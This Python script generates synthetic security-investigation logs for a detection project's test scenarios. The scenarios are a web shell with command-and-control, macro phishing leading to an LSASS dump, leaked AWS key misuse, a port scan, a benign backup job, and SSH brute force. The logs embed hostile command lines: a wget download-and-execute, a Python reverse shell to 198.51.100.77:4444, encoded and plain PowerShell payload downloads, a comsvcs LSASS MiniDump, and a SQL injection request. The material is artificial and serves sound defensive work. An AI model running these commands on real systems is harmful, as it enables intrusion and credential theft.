#!/usr/bin/env python3
"""Writes the synthetic investigation scenarios (raw logs) of datasets/scenarios/.

Each scenario re-enacts documented attacker (or benign) behaviour with the log formats the
project normalizes: nginx/apache access logs, EDR process/file/network events as ECS NDJSON,
Sysmon records in the EVTX JSON rendering, CloudTrail records, iptables kernel logs.
Deterministic (fixed seed); addresses are documentation ranges (RFC 5737) or private.
The expected outcome of each scenario is written by hand in its expected.toml.
"""
import json, os, random
from datetime import datetime, timedelta, timezone

random.seed(16)
ROOT = os.path.dirname(os.path.abspath(__file__))


def w(path, lines):
    p = os.path.join(ROOT, path)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "w") as f:
        f.write("\n".join(lines) + "\n")


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def clf(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


# 1. Linux: exploited upload form -> PHP web shell -> payload download -> outbound C2.
# (Behaviour as documented for web shells in CISA/NSA "Detect and Prevent Web Shell Malware"
# and ATT&CK T1505.003 / T1105 / T1059.004.)
def linux_webshell():
    t0 = datetime(2024, 6, 3, 14, 0, 0, tzinfo=timezone.utc)
    atk = "198.51.100.77"
    web, edr = [], []
    ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0 Safari/537.36"
    for i in range(40):
        t = t0 + timedelta(seconds=20 * i)
        ip = f"10.20.{random.randint(1, 9)}.{random.randint(2, 250)}"
        path = random.choice(["/", "/products", "/cart", "/static/app.js", "/static/site.css", "/login"])
        web.append(f'{ip} - - [{clf(t)}] "GET {path} HTTP/1.1" 200 {random.randint(300, 9000)} "-" "{ua}"')
    steps = [
        (300, "GET /wp-login.php HTTP/1.1", 200, "sqlmap/1.8"),
        (310, "GET /index.php?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20wp_users-- HTTP/1.1", 500, "sqlmap/1.8"),
        (360, "POST /wp-content/plugins/forms/upload.php HTTP/1.1", 200, "python-requests/2.32"),
        (375, "GET /wp-content/uploads/2024/06/thumb.php?c=id HTTP/1.1", 200, "python-requests/2.32"),
        (420, "GET /wp-content/uploads/2024/06/thumb.php?c=uname%20-a HTTP/1.1", 200, "python-requests/2.32"),
    ]
    for off, req, st, agent in steps:
        t = t0 + timedelta(seconds=off)
        web.append(f'{atk} - - [{clf(t)}] "{req}" {st} {random.randint(100, 2000)} "-" "{agent}"')
    web.sort(key=lambda l: datetime.strptime(l.split("[")[1].split("]")[0], "%d/%b/%Y:%H:%M:%S %z"))
    host = {"host.name": "shop-web-02", "host.os.type": "linux", "event.kind": "event"}

    def proc(off, pid, exe, cmd, ppid, pexe, user="www-data"):
        return dict(host, **{"@timestamp": ts(t0 + timedelta(seconds=off)), "event.category": ["process"],
                             "event.type": ["start"], "process.entity_id": pid, "process.executable": exe,
                             "process.command_line": cmd, "process.parent.entity_id": ppid,
                             "process.parent.executable": pexe, "user.name": user})
    edr.append(proc(5, "sw2-100", "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "sw2-1", "/usr/sbin/cron", "root"))
    edr.append(dict(host, **{"@timestamp": ts(t0 + timedelta(seconds=361)), "event.category": ["file"], "event.type": ["creation"],
                             "process.entity_id": "sw2-800", "process.executable": "/usr/sbin/php-fpm8.2",
                             "file.path": "/var/www/html/wp-content/uploads/2024/06/thumb.php", "user.name": "www-data"}))
    edr.append(proc(376, "sw2-901", "/bin/sh", "sh -c id", "sw2-800", "/usr/sbin/php-fpm8.2"))
    edr.append(proc(376, "sw2-902", "/usr/bin/id", "id", "sw2-901", "/bin/sh"))
    edr.append(proc(421, "sw2-903", "/bin/sh", "sh -c uname -a", "sw2-800", "/usr/sbin/php-fpm8.2"))
    edr.append(proc(480, "sw2-910", "/bin/sh", f"sh -c wget http://{atk}/x86 -O /tmp/.x86; chmod +x /tmp/.x86; /tmp/.x86", "sw2-800", "/usr/sbin/php-fpm8.2"))
    edr.append(proc(480, "sw2-911", "/usr/bin/wget", f"wget http://{atk}/x86 -O /tmp/.x86", "sw2-910", "/bin/sh"))
    edr.append(proc(482, "sw2-912", "/tmp/.x86", "/tmp/.x86", "sw2-910", "/bin/sh"))
    edr.append(dict(host, **{"@timestamp": ts(t0 + timedelta(seconds=483)), "event.category": ["network"], "event.type": ["connection", "start"],
                             "process.entity_id": "sw2-912", "process.executable": "/tmp/.x86", "source.ip": "10.20.0.12", "source.port": 51234,
                             "destination.ip": atk, "destination.port": 4444, "network.transport": "tcp", "network.direction": "egress",
                             "user.name": "www-data"}))
    edr.append(proc(540, "sw2-920", "/usr/bin/python3", f"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{atk}\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'", "sw2-912", "/tmp/.x86"))
    w("linux-webshell-c2/web/access.log", web)
    w("linux-webshell-c2/host/edr.ndjson", [json.dumps(e) for e in edr])


# 2. Windows + Sysmon: macro document -> encoded PowerShell download -> LSASS dump.
# (Documented in ATT&CK T1566.001, T1204.002, T1059.001, T1003.001; comsvcs MiniDump as
# described by Red Canary's "LSASS Memory" write-ups.)
def sysmon(t, eid, computer, data, rec):
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": eid,
                                 "EventRecordID": rec, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": computer,
                                 "TimeCreated": {"#attributes": {"SystemTime": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}}},
                      "EventData": data}}


def windows_phishing():
    t0 = datetime(2024, 9, 10, 8, 30, 0, tzinfo=timezone.utc)
    pc = "FIN-WS-031.corp.example.com"
    user = "CORP\\m.rossi"
    recs = []
    n = [5000]

    def p(off, guid, image, cmd, pguid, pimage, pcmd="", user=user, integrity="Medium"):
        n[0] += 1
        return sysmon(t0 + timedelta(seconds=off), 1, pc, {
            "UtcTime": (t0 + timedelta(seconds=off)).strftime("%Y-%m-%d %H:%M:%S.000"), "ProcessGuid": guid,
            "ProcessId": random.randint(1000, 9000), "Image": image, "CommandLine": cmd, "CurrentDirectory": "C:\\Users\\m.rossi\\Documents\\",
            "User": user, "IntegrityLevel": integrity, "Hashes": "SHA256=" + "%064x" % random.getrandbits(256),
            "ParentProcessGuid": pguid, "ParentImage": pimage, "ParentCommandLine": pcmd}, n[0])
    recs.append(p(0, "{A1}", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "{A0}", "C:\\Windows\\System32\\userinit.exe"))
    recs.append(p(60, "{A2}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"OUTLOOK.EXE\"", "{A1}", "C:\\Windows\\explorer.exe"))
    recs.append(p(600, "{B1}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                  "\"WINWORD.EXE\" /n \"C:\\Users\\m.rossi\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3K2\\Invoice_0921.docm\" /o \"\"",
                  "{A2}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"))
    enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADQAOAAvAGEAJwApAA=="
    recs.append(p(642, "{B2}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  f"powershell.exe -NoP -W Hidden -EncodedCommand {enc}", "{B1}",
                  "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"))
    n[0] += 1
    recs.append(sysmon(t0 + timedelta(seconds=644), 3, pc, {"ProcessGuid": "{B2}", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                                          "User": user, "Protocol": "tcp", "SourceIp": "10.30.4.31", "SourcePort": 50112,
                                                          "DestinationIp": "192.0.2.48", "DestinationPort": 80, "DestinationHostname": "cdn-update.example.net"}, n[0]))
    recs.append(p(650, "{B3}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "powershell.exe -NoP -c \"Invoke-WebRequest -Uri http://192.0.2.48/u.bin -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe\"",
                  "{B2}", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"))
    recs.append(p(900, "{C1}", "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\u.exe", "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\u.exe", "{B3}",
                  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", integrity="High"))
    recs.append(p(1500, "{C2}", "C:\\Windows\\System32\\rundll32.exe",
                  "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\lsass.dmp full", "{C1}",
                  "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\u.exe", integrity="High"))
    n[0] += 1
    recs.append(sysmon(t0 + timedelta(seconds=1560), 3, pc, {"ProcessGuid": "{C1}", "Image": "C:\\Users\\m.rossi\\AppData\\Local\\Temp\\u.exe",
                                                           "User": user, "Protocol": "tcp", "SourceIp": "10.30.4.31", "SourcePort": 50190,
                                                           "DestinationIp": "192.0.2.48", "DestinationPort": 443}, n[0]))
    w("windows-phishing-credential-dump/sysmon.json", [json.dumps(r) for r in recs])


# 3. CloudTrail: a leaked long-term access key used from outside -> discovery -> persistence
# with a backdoor user and key. (Documented in ATT&CK T1078.004, T1087.004, T1619, T1136.003,
# T1098.001; the pattern AWS describes for compromised IAM credentials.)
def cloudtrail():
    t0 = datetime(2024, 11, 18, 22, 10, 0, tzinfo=timezone.utc)
    acct = "444455556666"
    out = []
    k = [0]

    def ev(off, source, name, ip, ua, user="deploy-bot", extra=None, err=None):
        k[0] += 1
        e = {"eventVersion": "1.09", "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLEDEPLOY", "arn": f"arn:aws:iam::{acct}:user/{user}",
                                                      "accountId": acct, "accessKeyId": "AKIAEXAMPLELEAKED01", "userName": user},
             "eventTime": (t0 + timedelta(seconds=off)).strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": source, "eventName": name,
             "awsRegion": "eu-central-1", "sourceIPAddress": ip, "userAgent": ua, "eventID": "%08x-0000-4000-8000-%012x" % (k[0], k[0]),
             "eventType": "AwsApiCall", "recipientAccountId": acct}
        if extra:
            e["requestParameters"] = extra
        if err:
            e["errorCode"] = err
        return e
    # Normal use from the CI runner (private egress, its own tool).
    for i in range(6):
        out.append(ev(-3600 * (i + 1), "ecr.amazonaws.com", "GetAuthorizationToken", "10.40.0.8", "aws-sdk-go-v2/1.30"))
    atk = "203.0.113.200"
    tuf = "TruffleHog"
    out.append(ev(0, "sts.amazonaws.com", "GetCallerIdentity", atk, tuf))
    cli = "aws-cli/2.17.0 Python/3.11.8 Linux/6.1 exe/x86_64.kali"
    out.append(ev(40, "s3.amazonaws.com", "ListBuckets", atk, cli))
    out.append(ev(55, "iam.amazonaws.com", "ListUsers", atk, cli))
    out.append(ev(70, "iam.amazonaws.com", "ListAttachedUserPolicies", atk, cli, extra={"userName": "deploy-bot"}))
    out.append(ev(120, "iam.amazonaws.com", "CreateUser", atk, cli, extra={"userName": "svc-backup-sync"}))
    out.append(ev(130, "iam.amazonaws.com", "AttachUserPolicy", atk, cli, extra={"userName": "svc-backup-sync", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}))
    out.append(ev(140, "iam.amazonaws.com", "CreateAccessKey", atk, cli, extra={"userName": "svc-backup-sync"}))
    out.append(ev(200, "s3.amazonaws.com", "GetObject", atk, cli, extra={"bucketName": "prod-customer-exports", "key": "2024/11/customers.csv.gz"}))
    out.sort(key=lambda e: e["eventTime"])
    w("cloudtrail-key-misuse/cloudtrail.log", [json.dumps(e) for e in out])


# 4. A TCP SYN port scan of a server from the internet, seen in iptables logs
# (nmap -sS behaviour: one probe per port, most refused/dropped; ATT&CK T1046 / T1595.001).
def port_scan():
    t0 = datetime(2024, 7, 22, 3, 15, 0, tzinfo=timezone.utc)
    lines = []

    def line(t, tag, src, dst, spt, dpt, flags="SYN"):
        return (f"{t.strftime('%b %d %H:%M:%S').replace(' 0', '  ', 1) if t.day < 10 else t.strftime('%b %d %H:%M:%S')} edge-fw kernel: [{tag}]IN=eth0 OUT=eth1 "
                f"MAC=00:16:3e:aa:bb:cc:00:16:3e:dd:ee:ff:08:00 SRC={src} DST={dst} LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID={random.randint(1, 65000)} "
                f"PROTO=TCP SPT={spt} DPT={dpt} WINDOW=1024 RES=0x00 {flags} URGP=0")
    for i in range(60):
        t = t0 + timedelta(seconds=30 * i)
        lines.append(line(t, "WAN_IN-10-A", f"198.18.{random.randint(0, 3)}.{random.randint(1, 250)}", "10.0.5.20", random.randint(30000, 60000), 443, "SYN"))
    ports = random.sample(range(1, 10000), 180) + [22, 80, 443, 3306, 8080]
    for i, port in enumerate(ports):
        t = t0 + timedelta(seconds=600 + i // 8)
        tag = "WAN_IN-10-A" if port in (80, 443) else "WAN_IN-default-D"
        lines.append(line(t, tag, "192.0.2.99", "10.0.5.20", 61000 + (i % 3), port))
    lines.sort(key=lambda l: l[:15])
    w("port-scan/firewall.log", lines)


# 5. Benign: a nightly database backup job uploads its dump with curl from cron. The upload
# matches a Sigma rule for exfiltration with curl, every night at the same time, from the
# same host, started by cron, as the backup service account.
def benign_cron():
    base = datetime(2024, 8, 12, 2, 0, 0, tzinfo=timezone.utc)
    edr = []
    for night in range(4):
        t = base + timedelta(days=night, seconds=random.randint(0, 20))
        h = {"host.name": "db-01", "host.os.type": "linux", "event.kind": "event", "event.category": ["process"], "event.type": ["start"], "user.name": "backup"}
        edr.append(dict(h, **{"@timestamp": ts(t), "process.entity_id": f"db1-{night}-1", "process.executable": "/bin/sh",
                               "process.command_line": "/bin/sh -c /usr/local/bin/db-backup.sh", "process.parent.entity_id": "db1-cron",
                               "process.parent.executable": "/usr/sbin/cron"}))
        edr.append(dict(h, **{"@timestamp": ts(t + timedelta(seconds=2)), "process.entity_id": f"db1-{night}-2", "process.executable": "/usr/bin/pg_dump",
                               "process.command_line": "pg_dump -Fc shop -f /var/backups/shop.dump", "process.parent.entity_id": f"db1-{night}-1",
                               "process.parent.executable": "/usr/sbin/cron"}))
        edr.append(dict(h, **{"@timestamp": ts(t + timedelta(seconds=95)), "process.entity_id": f"db1-{night}-3", "process.executable": "/usr/bin/curl",
                               "process.command_line": "curl -sS -T /var/backups/shop.dump https://backup.corp.example.com/upload/db-01/",
                               "process.parent.entity_id": f"db1-{night}-1", "process.parent.executable": "/usr/sbin/cron"}))
    w("benign-backup-job/host/edr.ndjson", [json.dumps(e) for e in edr])


# 6. SSH password guessing from the internet against a bastion, then a successful login with a
# guessed password (ATT&CK T1110.001 then T1078), among normal key-based logins.
def ssh_bruteforce():
    t0 = datetime(2024, 3, 4, 2, 10, 0, tzinfo=timezone.utc)
    lines = []

    def sys(t, msg, pid):
        return f"{t.strftime('%b')} {t.day:>2} {t.strftime('%H:%M:%S')} bastion sshd[{pid}]: {msg}"
    for i in range(8):
        t = t0 - timedelta(hours=i + 1)
        lines.append((t, sys(t, f"Accepted publickey for deploy from 10.0.2.2 port {50000 + i} ssh2: RSA SHA256:Jc0nnpQ1", 3000 + i)))
    users = ["root", "admin", "ubuntu", "admin", "root", "test", "admin", "oracle"]
    for i in range(60):
        t = t0 + timedelta(seconds=4 * i)
        u = users[i % len(users)]
        lines.append((t, sys(t, f"Failed password for {u} from 203.0.113.45 port {40000 + i} ssh2", 4000 + i)))
    t = t0 + timedelta(seconds=250)
    lines.append((t, sys(t, "Accepted password for admin from 203.0.113.45 port 41000 ssh2", 4100)))
    lines.sort()
    w("ssh-brute-force/auth.log", [l for _, l in lines])


linux_webshell()
windows_phishing()
cloudtrail()
port_scan()
benign_cron()
ssh_bruteforce()
